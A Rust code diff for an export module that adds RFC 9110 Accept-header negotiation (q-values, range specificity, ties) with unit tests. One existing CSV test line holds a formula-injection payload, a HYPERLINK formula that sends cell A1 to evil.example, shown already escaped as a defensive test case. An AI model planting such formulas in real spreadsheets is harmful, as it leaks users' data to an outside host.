@@ -102,27 +102,95 @@ pub fn check_format(errors: &mut Vec<FieldError>, format: Option<&str>) -> Optio
     }
 }
 
-/// The representation to answer: `format` if given, else the first media range of `Accept`
-/// that names CSV or XLSX, else JSON.
+/// The representation to answer: `format` if given, else the one `Accept` prefers (see
+/// [`preferred`]), else JSON (no `Accept`, a malformed one, or none of the three acceptable:
+/// the header is then disregarded, as RFC 9110 §12.5.1 allows, rather than answered 406).
 pub fn negotiate(req: &HttpRequest, format: Option<ExportFormat>) -> ExportFormat {
     if let Some(f) = format {
         return f;
     }
-    req.headers()
-        .get_all(header::ACCEPT)
-        .filter_map(|v| v.to_str().ok())
-        .flat_map(|v| v.split(','))
-        .filter_map(|range| range.split(';').next().map(str::trim))
-        .find_map(|media| {
-            if media.eq_ignore_ascii_case("text/csv") {
-                Some(ExportFormat::Csv)
-            } else if media.eq_ignore_ascii_case(XLSX_CONTENT_TYPE) {
-                Some(ExportFormat::Xlsx)
-            } else {
-                None
+    let mut values = Vec::new();
+    for value in req.headers().get_all(header::ACCEPT) {
+        match value.to_str() {
+            Ok(v) => values.push(v),
+            Err(_) => return ExportFormat::Json,
+        }
+    }
+    if values.is_empty() {
+        return ExportFormat::Json;
+    }
+    // Several `Accept` lines are one list (RFC 9110 §5.3).
+    preferred(&values.join(",")).unwrap_or(ExportFormat::Json)
+}
+
+/// What the exports offer, in the order a tie between them goes: (format, type, subtype).
+const OFFERED: [(ExportFormat, &str, &str); 3] = [
+    (ExportFormat::Json, "application", "json"),
+    (ExportFormat::Csv, "text", "csv"),
+    (ExportFormat::Xlsx, "application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+];
+
+/// `tchar`s only (RFC 9110 §5.6.2), at least one.
+fn is_token(s: &str) -> bool {
+    !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
+}
+
+/// The format an `Accept` header prefers, as RFC 9110 §12.5.1 says: each format takes the weight
+/// of the most specific media range that matches it (`text/csv`, then `text/*`, then `*/*`; of
+/// equally specific ones, the highest); `q=0` is "not acceptable"; the highest weight wins, a tie
+/// going to the range listed first, then to JSON, CSV, XLSX in that order. Media type parameters
+/// (`charset=…`) are ignored. `None` when none of the three is acceptable or the header is
+/// malformed.
+pub fn preferred(accept: &str) -> Option<ExportFormat> {
+    // For each offered format: (specificity 1 to 3, weight in thousandths, position).
+    let mut weights: [Option<(u8, u16, usize)>; 3] = [None; 3];
+    for (at, element) in accept.split(',').enumerate() {
+        let element = element.trim_matches([' ', '\t']);
+        if element.is_empty() {
+            continue; // RFC 9110 §5.6.1: empty list elements are allowed and ignored.
+        }
+        let mut parts = element.split(';');
+        let range = parts.next()?.trim_end_matches([' ', '\t']);
+        let (kind, subtype) = range.split_once('/')?;
+        if !is_token(kind) || !is_token(subtype) || (kind == "*" && subtype != "*") {
+            return None;
+        }
+        let mut q = 1000;
+        for parameter in parts {
+            let (name, value) = parameter.trim_matches([' ', '\t']).split_once('=')?;
+            if !is_token(name) {
+                return None;
             }
-        })
-        .unwrap_or(ExportFormat::Json)
+            if name.eq_ignore_ascii_case("q") {
+                q = crate::domain::lang::parse_qvalue(value)?;
+                break; // what follows the weight are extensions, ignored
+            }
+        }
+        for (slot, (_, offered_kind, offered_subtype)) in weights.iter_mut().zip(OFFERED) {
+            let specificity = if kind == "*" {
+                1
+            } else if !kind.eq_ignore_ascii_case(offered_kind) {
+                continue;
+            } else if subtype == "*" {
+                2
+            } else if subtype.eq_ignore_ascii_case(offered_subtype) {
+                3
+            } else {
+                continue;
+            };
+            if slot.is_none_or(|(s, best, _)| specificity > s || (specificity == s && q > best)) {
+                *slot = Some((specificity, q, at));
+            }
+        }
+    }
+    let mut chosen: Option<(ExportFormat, u16, usize)> = None;
+    for ((format, _, _), weight) in OFFERED.into_iter().zip(weights) {
+        let Some((_, q, at)) = weight.filter(|(_, q, _)| *q > 0) else { continue };
+        if chosen.is_none_or(|(_, best, first)| q > best || (q == best && at < first)) {
+            chosen = Some((format, q, at));
+        }
+    }
+    chosen.map(|(format, _, _)| format)
 }
 
 /// RFC 4180 CSV (CRLF line ends), UTF-8: the header, then the rows (see [`write_csv_row`]).
@@ -295,6 +363,7 @@ impl Sheet {
 
 #[cfg(test)]
 mod tests {
+    use super::ExportFormat::{Csv, Json, Xlsx};
     use super::*;
 
     #[test]
@@ -316,5 +385,71 @@ mod tests {
             String::from_utf8(body).unwrap(),
             "a,b,c,d,e,f,g,h\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\",'-X,Les Ateliers Solidaires,-5,-123456,2026-03-12,,\r\n"
         );
+    }
+
+    const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
+
+    #[test]
+    fn q_zero_is_not_acceptable() {
+        // Issue 20: `text/csv;q=0` answered CSV.
+        assert_eq!(preferred("text/csv;q=0, application/json"), Some(Json));
+        assert_eq!(preferred("text/csv;q=0"), None, "nothing acceptable: the caller answers JSON");
+        assert_eq!(preferred(&format!("{XLSX};q=0.0, text/csv;q=0.001")), Some(Csv));
+        assert_eq!(preferred("*/*, text/csv;q=0"), Some(Json));
+        assert_eq!(preferred("text/*;q=0, */*"), Some(Json));
+        assert_eq!(preferred("application/json;q=0, text/csv;q=0, */*"), Some(Xlsx));
+    }
+
+    #[test]
+    fn the_highest_weight_wins() {
+        assert_eq!(preferred(&format!("{XLSX};q=0.9, text/csv")), Some(Csv));
+        assert_eq!(preferred(&format!("text/csv;q=0.5, {XLSX};q=0.8")), Some(Xlsx));
+        assert_eq!(preferred("text/csv;q=0.5, application/json;q=0.6"), Some(Json));
+        assert_eq!(
+            preferred("text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8"),
+            Some(Json)
+        );
+        assert_eq!(preferred("text/html"), None);
+    }
+
+    #[test]
+    fn the_most_specific_range_gives_the_weight() {
+        assert_eq!(preferred("text/*;q=0.9, text/csv;q=0.1, application/json;q=0.5"), Some(Json));
+        assert_eq!(preferred("text/*"), Some(Csv));
+        assert_eq!(preferred("application/*"), Some(Json));
+        assert_eq!(preferred(&format!("application/*;q=0.5, {XLSX}")), Some(Xlsx));
+        assert_eq!(preferred("*/*;q=0.1, text/csv;q=0.2"), Some(Csv));
+    }
+
+    #[test]
+    fn ties_go_to_the_first_listed_then_to_json() {
+        assert_eq!(preferred("text/csv, application/json"), Some(Csv));
+        assert_eq!(preferred("application/json, text/csv"), Some(Json));
+        assert_eq!(preferred("text/csv, */*"), Some(Csv));
+        assert_eq!(preferred("*/*"), Some(Json));
+        assert_eq!(preferred(&format!("{XLSX}, text/csv")), Some(Xlsx));
+    }
+
+    #[test]
+    fn parameters_case_and_whitespace() {
+        assert_eq!(preferred("TEXT/CSV ; charset=utf-8 ; Q=0.7 ,, application/json;q=0.6"), Some(Csv));
+        assert_eq!(preferred("text/csv;q=0.5;level=1, application/json;q=0.4"), Some(Csv));
+        assert_eq!(preferred("text/csv;q=1.000"), Some(Csv));
+    }
+
+    #[test]
+    fn a_malformed_header_is_disregarded() {
+        for header in [
+            "text/csv;q=2",
+            "text/csv;q=abc",
+            "text/csv;q=",
+            "csv",
+            "*/csv",
+            "text/csv;;",
+            "text /csv",
+            "é/csv",
+        ] {
+            assert_eq!(preferred(header), None, "{header:?}");
+        }
     }
 }
